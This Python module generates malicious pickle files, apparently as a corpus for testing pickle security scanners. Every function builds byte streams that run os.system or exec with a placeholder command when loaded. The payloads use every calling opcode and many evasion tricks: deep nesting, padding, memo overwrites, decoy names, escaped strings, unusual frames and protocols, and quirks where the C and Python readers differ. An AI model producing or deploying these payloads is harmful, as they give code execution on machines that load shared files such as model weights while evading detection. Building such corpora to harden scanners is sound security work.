# SPDX-License-Identifier: BSD-3-Clause
"""Every opcode that calls something, and everything that can be done to hide what it calls."""

import pickle
import struct

from attacks import assemble as a

SYSTEM = a.named("os", "system")
SPACE = ("argparse", "Namespace")  # takes any attributes


class Reduced:
    """What pickle itself writes for an object that asks for a call."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def calling(mark):
    """The opcodes that call."""
    import os

    command = a.text(mark.command)
    line = mark.command.encode()
    code = a.text(mark.code)
    for protocol in range(6):
        data = pickle.dumps(Reduced(os.system, mark.command), protocol)
        yield f"reduce-protocol-{protocol}", "REDUCE as pickle writes it", data
    yield "reduce-text", "REDUCE in text that a person can type", b"cos\nsystem\n(V" + line + b"\ntR."
    yield "inst", "INST: the name stands in the opcode", b"(V" + line + b"\nios\nsystem\n."
    yield "obj", "OBJ: the class stands between the mark and the arguments", b"(" + SYSTEM + command + b"o."
    mapped = a.instance("builtins", "map", SYSTEM, b"]" + command + b"a")
    mapped4 = a.named("builtins", "map") + a.tuple_of(SYSTEM, b"]" + command + b"a") + b"}\x92"
    yield (
        "newobj",
        "NEWOBJ of map, which tuple runs through",
        a.pickled(a.instance("builtins", "tuple", mapped), protocol=3),
    )
    yield (
        "newobj-ex",
        "NEWOBJ_EX likewise",
        a.pickled(a.named("builtins", "tuple") + a.tuple_of(mapped4) + b"}\x92", protocol=4),
    )
    space = a.instance(*SPACE)
    setting = a.dict_of(__setstate__=SYSTEM)
    yield (
        "build-setstate",
        "BUILD gives an object a __setstate__, BUILD calls it",
        a.pickled(space, setting, b"b", command, b"b"),
    )
    slots = b"N" + setting + b"\x86"
    yield "build-slots", "the same as state of slots", a.pickled(space, slots, b"b", command, b"b")
    yield (
        "build-class",
        "BUILD on a class gives all of its instances a __setstate__",
        a.pickled(a.named(*SPACE), slots, b"b0", space, command, b"b"),
    )
    adding = a.dict_of(append=SYSTEM)
    yield "append", "APPEND to an object whose append is a function", a.pickled(space, adding, b"b", command, b"a")
    yield "appends", "APPENDS likewise", a.pickled(space, adding, b"b(", command, b"e")
    yield (
        "additems",
        "ADDITEMS to an object whose add is a function",
        a.pickled(space, a.dict_of(add=SYSTEM), b"b(", command, b"\x90", protocol=4),
    )
    items = b"N" + a.dict_of(__setitem__=a.named("builtins", "exec")) + b"\x86"
    yield (
        "setitem",
        "SETITEM on a class whose __setitem__ is exec",
        a.pickled(a.named(*SPACE), items, b"b0", space, code, b"}s", protocol=3),
    )
    for width, opcode, number in (
        (1, b"\x82\xf1", 0xF1),
        (2, b"\x83\xf2\xf1", 0xF1F2),
        (4, b"\x84\xf3\xf2\xf1\x00", 0xF1F2F3),
    ):
        register = a.run("copyreg", "add_extension", "os", "system", number)
        yield (
            f"ext{width}",
            f"EXT{width}: a number that the file itself has registered",
            a.pickled(register, b"0", a.call(opcode, command), protocol=3),
        )


def placed(mark):
    """Calls in places where only some look."""
    evil = a.run("os", "system", mark.command)
    for name, shows, data in (
        ("popped", "the result is dropped, and a harmless list is loaded", evil + b"0]"),
        ("popped-mark", "dropped with POP_MARK", b"(" + evil + b"1]"),
        ("dict-key", "as a key of a dict", b"}" + evil + b"Ns"),
        ("dict-value", "as a value of a dict", b"}" + a.text("weights") + evil + b"s"),
        ("set-item", "as an item of a set", b"\x8f(" + evil + b"\x90"),
        ("frozenset-item", "as an item of a frozenset", b"(" + evil + b"\x91"),
        ("list-item", "in LIST", b"(" + evil + b"l"),
        ("state", "in the state of an object", a.instance(*SPACE) + a.dict_of(x=evil) + b"b"),
        (
            "argument",
            "as the argument of a harmless class",
            a.call(a.named("collections", "OrderedDict"), b"](" + b"]" + evil + b"aNae"),
        ),
        ("twice", "DUP of the function", a.named("os", "system") + b"2" + a.tuple_of(a.text(mark.command)) + b"R0"),
        ("deep", "below 20,000 lists", b"]" * 20000 + evil + b"a" * 20000),
        ("marks", "below 20,000 marks", b"(" * 20000 + evil + b"1" * 19999 + b"N" + b"1]"),
        ("large-string", "behind a megabyte of text", a.text("A" * 2**20) + b"0" + evil),
        ("many-objects", "behind 100,000 numbers", b"](" + b"K\x01" * 100000 + b"e0" + evil),
        (
            "long-integer",
            "behind a number of 10,000 bytes",
            b"\x8b" + struct.pack("<i", 10000) + b"\x01" * 10000 + b"0" + evil,
        ),
    ):
        yield name, shows, a.pickled(data, protocol=4)


def memos(mark):
    """Names and functions by way of the memo."""
    command = a.text(mark.command)
    code = a.text(mark.code)
    name = a.short("system") + b"\x94"
    for kind, put, get in (
        ("text", b"p7\n", b"g7\n"),
        ("byte", b"q\x07", b"h\x07"),
        ("long", b"r\x07\x00\x00\x00", b"j\x07\x00\x00\x00"),
        ("odd-number", b"p 0_7\n", b"g+7\n"),
        ("large-number", b"r\x40\x42\x0f\x00", b"g1000000\n"),
    ):
        yield f"get-{kind}", "the function comes from the memo", a.pickled(SYSTEM, put, b"0", a.call(get, command))
    yield (
        "memoize",
        "MEMOIZE numbers them by itself",
        a.pickled(a.short("os") + b"\x94" + name + b"00h\x00h\x01\x93" + a.tuple_of(command) + b"R", protocol=4),
    )
    yield (
        "overwritten",
        "a harmless name in the memo, then another under the same number",
        a.pickled(a.named("collections", "OrderedDict") + b"q\x000" + SYSTEM + b"q\x000" + a.call(b"h\x00", command)),
    )
    yield (
        "overwritten-string",
        "the same with the string of the name",
        a.pickled(
            a.short("getcwd") + b"q\x000" + a.short("system") + b"q\x000",
            a.short("os") + b"h\x00\x93",
            a.tuple_of(command),
            b"R",
            protocol=4,
        ),
    )
    yield (
        "decoys",
        "two harmless strings before STACK_GLOBAL, dropped again",
        a.pickled(
            a.short("os") + a.short("system") + a.short("collections") + a.short("OrderedDict") + b"00\x93",
            a.tuple_of(command),
            b"R",
            protocol=4,
        ),
    )
    yield (
        "decoys-memo",
        "memo and decoys together",
        a.pickled(
            a.short("system") + b"q\x050" + a.short("os") + a.short("json") + b"0h\x05" + a.short("dumps") + b"0\x93",
            a.tuple_of(command),
            b"R",
            protocol=4,
        ),
    )
    yield (
        "duplicate",
        "module and name by DUP: a function that is called as its module is",
        a.pickled(
            a.call(a.short("timeit") + b"2\x93", code, a.text("pass"), a.named("time", "perf_counter"), b"K\x01"),
            protocol=4,
        ),
    )
    yield (
        "computed-name",
        "the module's name is what a harmless call returns",
        a.pickled(
            a.call(a.named("builtins", "str"), a.text("os")) + a.short("system") + b"\x93",
            a.tuple_of(command),
            b"R",
            protocol=4,
        ),
    )
    yield (
        "name-from-tuple",
        "the name is dug out of an object by BUILD and an attribute",
        a.pickled(
            a.call(a.dotted("builtins", "str.join"), a.text(""), b"](" + a.text("sys") + a.text("tem") + b"e")
            + b"q\x010"
            + a.short("os")
            + b"h\x01\x93",
            a.tuple_of(command),
            b"R",
            protocol=4,
        ),
    )


def spelled(mark):
    """Strings and frames in unusual forms."""
    command = a.text(mark.command)
    end = a.tuple_of(command) + b"R"
    for name, shows, module, attribute in (
        ("escapes", "STRING with escapes", rb"S'\x6f\x73'" + b"\n", rb"S'\163ystem'" + b"\n"),
        ("unicode-escapes", "UNICODE with escapes", rb"V\u006fs" + b"\n", rb"Vsyst\u0065m" + b"\n"),
        ("binstring", "BINSTRING, Python 2's bytes", b"T\x02\x00\x00\x00os", b"U\x06system"),
        (
            "binunicode8",
            "BINUNICODE8",
            b"\x8d" + struct.pack("<Q", 2) + b"os",
            b"\x8d" + struct.pack("<Q", 6) + b"system",
        ),
    ):
        yield name, shows, a.pickled(module + attribute + b"\x93", end, protocol=4)
    function = a.looked_up("os", "system")
    yield "second-frame", "the call in a frame of its own", b"\x80\x04" + a.framed(function) + a.framed(end + b".")
    yield (
        "empty-frames",
        "frames of no bytes between",
        b"\x80\x04" + a.framed(b"") + function + a.framed(b"") + end + b".",
    )
    yield "no-proto", "protocol 4 without PROTO", function + end + b"."
    yield "proto-inside", "PROTO in the middle", b"\x80\x02" + SYSTEM + b"\x80\x04" + end + b"."
    yield "proto-0", "PROTO 0, which nobody writes", b"\x80\x00" + SYSTEM + end + b"."
    yield "proto-1", "PROTO 1", b"\x80\x01" + SYSTEM + end + b"."
    yield "protocol-5-text", "PROTO 5 before text", b"\x80\x05cos\nsystem\n(V" + mark.command.encode() + b"\ntR."
    yield "bytearray", "a BYTEARRAY8 before", b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc0" + function + end + b"."
    yield "bool-int", "text integers before", b"I01\n0I00\n0F1e9\n0L5L\n0" + SYSTEM + end + b"."


def reads_frames_in_frames():
    """Tell whether the reader in C does: not in newer releases."""
    try:
        return pickle.loads(b"\x80\x04\x95" + struct.pack("<Q", 11) + b"N\x95" + struct.pack("<Q", 1) + b".") is None
    except pickle.UnpicklingError:
        return False


def unusual(mark):
    """What some readers refuse and others go on behind, to the payload."""
    evil = a.run("os", "system", mark.command)
    size = struct.Struct("<BQ").pack
    for name, shows, data, loader in (
        ("octal-integer", "INT of 010, which only the reader in C takes", b"I010\n0" + evil + b".", "pickle"),
        ("null-integer", "INT with a null byte", b"I5\0 any text\n0" + evil + b".", "pickle"),
        ("null-float", "FLOAT with a null byte", b"F5\0 any text\n0" + evil + b".", "pickle"),
        ("null-put", "PUT with a null byte", b"Np5\0\n0" + evil + b".", "pickle"),
        (
            "frame-in-frame",
            "a frame within another",
            size(0x95, 40) + b"N" + size(0x95, 1) + b"0" + evil + b".",
            "pickle" if reads_frames_in_frames() else None,
        ),
        ("frame-across", "an opcode across a frame's end", size(0x95, 2) + b"NX\1\0\0\0x00" + evil + b".", "pickle"),
        (
            "frame-beyond",
            "a frame beyond the file's end, for the reader in Python",
            size(0x95, 9999) + evil + b".",
            "joblib",
        ),
    ):
        why_not = "" if loader else "no reader of this Python takes it"
        yield a.Attack("readers differ", name, shows, b"\x80\x04" + data, loader, why_not=why_not)
    text = b"I010\n0cos\nsystem\n(V" + mark.command.encode() + b"\ntR."
    yield a.Attack("readers differ", "octal-text", "the same without PROTO, and called .txt", text, suffix=".txt")


def build(mark):
    for group, cases in (("calls", calling), ("places", placed), ("memo", memos), ("spelling", spelled)):
        for name, shows, data in cases(mark):
            yield a.Attack(group, name, shows, data)
    for name, data in (
        ("persid", b"P" + mark.path.encode() + b"\n."),
        ("binpersid", a.pickled(a.text(mark.path), b"Q")),
    ):
        why_not = "what a persistent id does is up to the program that loads"
        yield a.Attack("calls", name, "a persistent id", data, loader=None, why_not=why_not)
    yield from unusual(mark)
